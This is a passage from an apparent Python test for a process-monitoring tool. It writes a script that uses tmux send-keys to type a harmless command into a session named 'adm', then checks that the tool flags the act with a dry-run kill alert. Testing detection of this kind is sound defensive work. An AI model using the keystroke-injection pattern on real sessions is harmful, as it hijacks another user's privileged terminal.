            s = d / "l.sh"
            s.write_text(f"#!/bin/sh\ntmux -S {sock} send-keys -t adm 'touch {d}/ran' Enter\n"
                         f"echo $? > {d}/rc\n")
            r = subprocess.run(["/bin/sh", "-c", f'echo $$ > {cg}/cgroup.procs && exec /bin/sh {s}'],
                               timeout=10, env={"PATH": "/usr/bin:/bin", "HOME": str(d)})
            assert r.returncode == 0 and (d / "rc").read_text().strip() == "0"
            assert _typed(sock, d, "ran")
            recs = _records(gate, 1)
            assert [(e.action, e.enforced) for e in recs] == [("kill", False)], recs
            f = gate.finding(recs[0])
            assert f is not None and f.dry_run
            alert = Dispatcher(ProcessTable()).dispatch(f, time.time_ns())
            assert alert.action == "would-kill-tree" and alert.enforced_by == "connect-kill"
    finally:
        shutil.rmtree(d)
